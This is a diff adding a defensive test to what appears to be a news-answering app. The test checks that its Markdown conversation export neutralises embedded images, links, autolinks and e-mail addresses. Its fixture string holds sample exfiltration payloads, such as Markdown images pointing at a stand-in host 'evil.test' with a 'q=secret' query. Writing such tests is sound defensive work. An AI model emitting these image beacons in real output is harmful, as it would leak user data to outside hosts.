@@ -304,3 +304,31 @@ def test_importing_rag_and_the_renderer_does_not_load_gradio():
     code = "import sys, rag, ui, ui.render, ui.uploads; print('gradio' in sys.modules)"
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert result.stdout.strip() == "False"
+
+
+EXFILTRATING = ("See ![chart](http://evil.test/leak.png?q=secret) and [the report](http://evil.test/r) or "
+                "<http://evil.test/auto> <img src=http://evil.test/i.png> [ref]: http://evil.test/def "
+                "http://evil.test/bare www.evil.test mail me@evil.test ![ref] `code` **bold** ~~gone~~")
+
+
+def test_markdown_export_keeps_no_image_or_link_from_article_text():
+    # A Markdown viewer opening the export must load nothing and link nowhere the article chose: the
+    # one link is the article's own address, made by the export as the page makes it.
+    from markdown_it import MarkdownIt
+
+    citation = _citation(text=EXFILTRATING, title="# " + EXFILTRATING, outlet="![o](http://evil.test/o.png)",
+                         url="https://news.example.com/story")
+    answer = _answer(text="[1]: http://evil.test/def " + EXFILTRATING + " [1]", citations=[citation])
+    refused = _answer(text=REFUSAL_TEXT, citations=[], refused=True)
+    refused.passages = [_citation(text=EXFILTRATING, title=EXFILTRATING)]
+    md = render.conversation_markdown([_turn(answer), _turn(refused),
+                                       render.Turn("![q](http://evil.test/q.png)", error=EXFILTRATING)], now=0)
+    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md)
+    assert "<img" not in page and "<code>" not in page and "<s>" not in page
+    assert re.findall(r'<a href="([^"]*)"', page) == ["https://news.example.com/story"]
+    # GFM's own autolinks (a bare scheme://, www., an e-mail) are defused too.
+    assert "http://evil" not in md and "www.evil" not in md and "me@evil" not in md
+    assert "http\\://evil.test/bare" in md and "www\\.evil.test" in md and "me\\@evil.test" in md
+    # The citation markers stay readable; the viewer shows the article's text as written.
+    assert "[1]" in md and "See \\!\\[chart\\](http\\://evil.test/leak.png?q=secret)" in md
+    assert "![chart](http://evil.test/leak.png?q=secret)" in page
